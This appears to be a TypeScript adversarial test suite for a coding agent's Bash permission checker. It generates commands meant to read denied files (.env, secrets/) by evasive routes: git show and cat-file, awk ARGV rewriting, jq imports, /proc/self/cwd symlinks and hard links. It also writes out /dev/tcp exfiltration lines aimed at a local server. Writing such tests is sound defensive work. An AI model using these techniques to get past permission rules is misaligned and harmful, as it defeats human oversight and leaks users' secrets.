/**
 * Adversarial review of issue 9, class 8 (Bash reads of denied paths), with
 * members outside the project's corpus: awk programs that name their own
 * input files (`ARGV`), jq modules and data files, git's content-printing
 * subcommands (patches, stage and tree-ish spellings, `--batch` object names
 * from standard input, `blame --contents=`), and `/proc/self/cwd` — written
 * so, or reached through a link (`here -> /proc/self/cwd`, `cat here/.env`).
 *
 * Judged by the effect: every command the real chain lets through (default
 * and bypassPermissions) is run for real with bash in a fixture repository
 * whose denied files are committed, and its output must hold no secret. The
 * controls show the oracle sees what is allowed. Bash's `/dev/tcp` redirections
 * are network clients: judged by a local server's connection log.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import * as ShellCommand from "@switchyard/tools/ShellCommand"
import { describe, expect, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as Layer from "effect/Layer"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as Net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { Bash, decide } from "./fixtures/permissionTools.js"

const SECRETS = ["env-secret-7f3a", "key-secret-91c2", "json-secret-5a5a"]

const src = (root: string) => path.join(root, "src")

const fixture = (() => {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "switchyard-attack-reads-")))
  const files: Record<string, string> = {
    ".env": `TOKEN=${SECRETS[0]}\n`,
    "secrets/key.txt": `${SECRETS[1]}\n`,
    "secrets/data.json": `{"k":"${SECRETS[2]}"}\n`,
    "src/a.ts": "export const visible = 1\n"
  }
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, name)), { recursive: true })
    fs.writeFileSync(path.join(root, name), content)
  }
  const git = (...args: ReadonlyArray<string>) =>
    spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: root, encoding: "utf8" })
  git("init", "-q", "-b", "main")
  git("add", "-A")
  git("commit", "-qm", "init")
  git("tag", "v1.0")
  // A working-tree change too, so `git diff` has something to print.
  fs.appendFileSync(path.join(root, "secrets/key.txt"), `more-${SECRETS[1]}\n`)
  // Links into the process's own view: for the command they lead into its directory (the fixture), for the
  // process that judges it into another one (the test runner's).
  fs.symlinkSync("/proc/self/cwd", path.join(root, "here"))
  fs.symlinkSync("/proc/self", path.join(root, "me"))
  fs.symlinkSync("here", path.join(root, "chain"))
  fs.symlinkSync("/proc/thread-self/cwd", path.join(src(root), "there"))
  return root
})()

const DENY = ["Read(./.env)", "Read(./secrets/**)"]

const run = (command: string) => {
  const result = spawnSync("bash", ["-c", command], {
    cwd: fixture,
    encoding: "utf8",
    input: "",
    timeout: 10_000,
    env: { ...process.env, GIT_PAGER: "cat", PAGER: "cat" }
  })
  return `${result.stdout}${result.stderr}`
}

const leaks = (text: string) => SECRETS.filter((secret) => text.includes(secret))

/** git spellings that print a denied file's content: subcommand × revision or tree-ish. */
const gitReads = FastCheck.oneof(
  FastCheck.tuple(
    FastCheck.constantFrom(
      "git show",
      "git diff",
      "git log -p",
      "git log --patch",
      "git log -U1",
      "git whatchanged -p",
      "git grep -h secret"
    ),
    FastCheck.constantFrom(
      "",
      " HEAD",
      " HEAD~0",
      " main",
      " v1.0",
      " HEAD@{0}",
      " 'HEAD^{commit}'",
      " HEAD:",
      " HEAD:secrets"
    )
  ).map(([command, revision]) => `${command}${revision}`),
  FastCheck.constantFrom(
    "git show :0:secrets/key.txt",
    "git show :2:secrets/key.txt",
    "git log -L1,1:secrets/key.txt",
    "git log -L 1,1:secrets/key.txt",
    "git blame --contents=secrets/key.txt src/a.ts",
    "git blame --cont=secrets/key.txt src/a.ts",
    "echo HEAD:secrets/key.txt | git cat-file --batch",
    "echo HEAD:secrets/key.txt | git cat-file --batch-command",
    "git stash show -p",
    "git --no-pager show HEAD"
  )
)

const otherReads = FastCheck.constantFrom(
  "awk 'BEGIN{ARGV[1]=\"secrets/key.txt\"; ARGC=2} {print}'",
  "awk 'BEGIN{ARGV[ARGC++]=\".env\"} 1' src/a.ts",
  "jq -L secrets -n 'import \"data\" as $k; $k'",
  "jq -n 'import \"secrets/data\" as $k; $k'",
  "jq -n 'import \"data\" as $k {search: \"./secrets\"}; $k'",
  "cat /proc/self/cwd/secrets/key.txt",
  "cat /proc/thread-self/cwd/.env",
  "cat /proc/self//cwd/secrets/../.env"
)

/** Through links that lead into `/proc/self`: resolved in the judging process, they would lead elsewhere. */
const linkReads = [
  "cat here/.env",
  "cat me/cwd/secrets/key.txt",
  "cat chain/.env",
  "cat here/secrets/../.env",
  "cat src/there/.env",
  "head -1 < here/.env"
]

const seed = Number(process.env["ATTACK_SEED"] ?? Math.floor(Math.random() * 2 ** 31))
const attacks = [
  ...new Set([
    ...FastCheck.sample(gitReads, { numRuns: 40, seed }),
    ...FastCheck.sample(otherReads, { numRuns: 16, seed: seed + 1 }),
    ...linkReads
  ])
]

const TestLayer = Layer.mergeAll(NodeContext.layer, ShellCommand.layer)

layer(TestLayer)("attack: Bash reads of denied paths, judged by what the command prints", (it) => {
  for (const mode of ["default", "bypassPermissions"] as const) {
    describe(mode, () => {
      it.effect(`generated reads (replay with ATTACK_SEED=${seed}) print no denied content`, () =>
        Effect.gen(function*() {
          for (const command of attacks) {
            const { decision, outcome } = yield* decide({ cwd: fixture, mode, deny: DENY }, Bash, { command })
            if (outcome !== "allow") continue
            expect(
              leaks(run(command)),
              `${mode}: ${command} was allowed (${"reason" in decision ? decision.reason : ""})`
            ).toEqual([])
          }
        }))

      it.effect("the oracle sees what is allowed: reads that name no denied path run and print", () =>
        Effect.gen(function*() {
          for (
            const command of [
              "git show HEAD:src/a.ts",
              "git grep -h visible -- src",
              "git diff -- src",
              "git log --oneline",
              "awk 1 src/a.ts",
              "jq -n 1"
            ]
          ) {
            const { outcome } = yield* decide({ cwd: fixture, mode, deny: DENY }, Bash, { command })
            expect(outcome, command).toBe("allow")
          }
          expect(run("git show HEAD:src/a.ts")).toContain("visible")
          // Unguarded, the attacks do print the secrets: the oracle can see a leak.
          expect(leaks(run("git show HEAD"))).not.toEqual([])
          expect(leaks(run("awk 'BEGIN{ARGV[1]=\"secrets/key.txt\"; ARGC=2} {print}'"))).not.toEqual([])
          expect(leaks(run("cat chain/.env"))).not.toEqual([])
        }))
    })
  }
})

layer(TestLayer)("attack: /dev/tcp redirections are network clients, judged by a local server's log", (it) => {
  it.effect("narrow allow rules and the read-only set let no /dev/tcp line through; the server sees nothing", () =>
    Effect.gen(function*() {
      const seen: Array<string> = []
      let received: () => void = () => {}
      const firstData = new Promise<void>((resolve) => (received = resolve))
      const server = Net.createServer((socket) => {
        seen.push("connection")
        socket.on("data", (data) => {
          seen.push(data.toString("utf8"))
          received()
        })
        socket.on("error", () => {})
      })
      yield* Effect.promise(() => new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve)))
      const port = (server.address() as Net.AddressInfo).port
      const commands = [
        `printf 'GET /exfil HTTP/1.0\\r\\n\\r\\n' < /dev/tcp/127.0.0.1/${port} 1>&0`,
        `echo exfil 0</dev/tcp/127.0.0.1/${port} >&0`,
        `cat < /dev/tcp/127.0.0.1/${port}`,
        `head -c0 < /dev//tcp/127.0.0.1/${port}`
      ]
      const allow = ["Bash(printf *)", "Bash(echo *)", "Bash(cat *)", "Bash(head *)"]
      for (const mode of ["default", "acceptEdits", "plan"] as const) {
        for (const command of commands) {
          const { outcome } = yield* decide({ cwd: fixture, mode, allow }, Bash, { command })
          if (outcome === "allow") run(`timeout 2 bash -c ${JSON.stringify(command)}`)
          expect(outcome, `${mode}: ${command}`).not.toBe("allow")
        }
      }
      // The blanket rule allows anything, and the log sees it: the oracle can see a request.
      const { outcome } = yield* decide({ cwd: fixture, allow: ["Bash"] }, Bash, { command: commands[0]! })
      expect(outcome).toBe("allow")
      run(`timeout 2 bash -c ${JSON.stringify(commands[0]!)}`)
      // Every earlier (denied) line was decided before this one ran: the first data is this request's.
      yield* Effect.promise(() => firstData)
      server.close()
      expect(seen.filter((line) => line !== "connection").join("")).toContain("GET /exfil")
      expect(seen.filter((line) => line.includes("GET")).length).toBe(1)
    }))
})

layer(TestLayer)("attack: a hard link is a second name no path rule sees", (it) => {
  it.effect("in bypassPermissions, no hard link to a denied file is made: reading the new name finds no secret", () =>
    Effect.gen(function*() {
      for (
        const command of [
          "ln secrets/key.txt src/hard-1",
          "ln -f -- .env src/hard-2",
          "ln -t src secrets/data.json",
          "cp -l secrets/key.txt src/hard-3"
        ]
      ) {
        const { outcome } = yield* decide({ cwd: fixture, mode: "bypassPermissions", deny: DENY }, Bash, { command })
        if (outcome === "allow") run(command)
      }
      const made = ["src/hard-1", "src/hard-2", "src/data.json", "src/hard-3"].filter((name) =>
        fs.existsSync(path.join(fixture, name))
      )
      expect(made.flatMap((name) => leaks(fs.readFileSync(path.join(fixture, name), "utf8")))).toEqual([])
      // A link to an allowed file is made: the oracle sees what is allowed.
      const { outcome } = yield* decide({ cwd: fixture, mode: "bypassPermissions", deny: DENY }, Bash, {
        command: "ln src/a.ts src/a-hard.ts"
      })
      expect(outcome).toBe("allow")
    }))
})
